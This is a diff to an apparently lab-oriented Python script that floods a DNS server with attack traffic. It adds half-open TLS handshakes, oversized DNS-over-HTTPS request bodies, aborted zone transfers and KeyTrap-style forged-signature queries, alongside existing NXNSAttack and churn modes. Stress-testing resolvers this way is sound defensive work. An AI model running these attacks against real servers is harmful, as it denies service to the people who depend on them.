@@ -3,7 +3,9 @@
 ``large`` asks for the largest RRset, by UDP with a cookie and by TCP; ``foreign`` for new names that a parent has as
 many addresses for; ``loop`` sends what servers reply; ``slow`` asks for names of a parent that is silent; ``walk`` for
 names of a zone that names ten servers more for each (NXNSAttack); ``churn`` opens connections from an address that is
-not served.
+not served; ``handshakes`` begins TLS and leaves; ``bodies`` sends requests by HTTP that are too long; ``transfers``
+takes a zone in full and goes in the middle; ``forged`` asks for names whose signatures are many, and all wrong
+(KeyTrap).
 """
 
 from __future__ import annotations
@@ -11,9 +13,11 @@ from __future__ import annotations
 import itertools
 import select
 import socket
+import ssl
 import sys
 import time
 from collections.abc import Callable
+from contextlib import suppress
 
 import dns.edns
 import dns.message
@@ -93,7 +97,61 @@ def churn(port: int, sock: socket.socket) -> Callable[[int], None]:
     return attack
 
 
-KINDS = {each.__name__: each for each in (large, foreign, loop, slow, churn, walk)}
+def handshakes(port: int, sock: socket.socket) -> Callable[[int], None]:
+    """Fifty a second: one in two is whole, the others stop behind their first bytes."""
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+
+    def attack(number: int) -> None:
+        with socket.create_connection((SERVER, port), timeout=5) as stream:
+            if number % 2:
+                stream.sendall(b"\x16\x03\x01\x02\x00\x01")
+            else:
+                context.wrap_socket(stream).close()
+        time.sleep(0.02)
+
+    return attack
+
+
+def bodies(port: int, sock: socket.socket) -> Callable[[int], None]:
+    """Fifty a second, of 64 KiB each."""
+    head = b"POST /dns-query HTTP/1.1\r\nHost: lab\r\nContent-Type: application/dns-message\r\n"
+
+    def attack(number: int) -> None:
+        with suppress(OSError), socket.create_connection((SERVER, port), timeout=5) as stream:
+            stream.sendall(head + b"Content-Length: 65536\r\n\r\n" + bytes(65536))
+            stream.recv(4096)
+        time.sleep(0.02)
+
+    return attack
+
+
+def transfers(port: int, sock: socket.socket) -> Callable[[int], None]:
+    """Twenty a second."""
+    asked = dns.message.make_query("lab", "AXFR").to_wire()
+
+    def attack(number: int) -> None:
+        with socket.create_connection((SERVER, port), timeout=5) as stream:
+            stream.sendall(len(asked).to_bytes(2, "big") + asked)
+            stream.recv(100)
+        time.sleep(0.05)
+
+    return attack
+
+
+def forged(port: int, sock: socket.socket) -> Callable[[int], None]:
+    """Fifty a second."""
+
+    def attack(number: int) -> None:
+        sock.sendto(query(f"n{number}.forged.test"), (SERVER, port))
+        time.sleep(0.02)
+
+    return attack
+
+
+KINDS = {
+    each.__name__: each for each in (large, foreign, loop, slow, churn, walk, handshakes, bodies, transfers, forged)
+}
 
 
 def main() -> None:
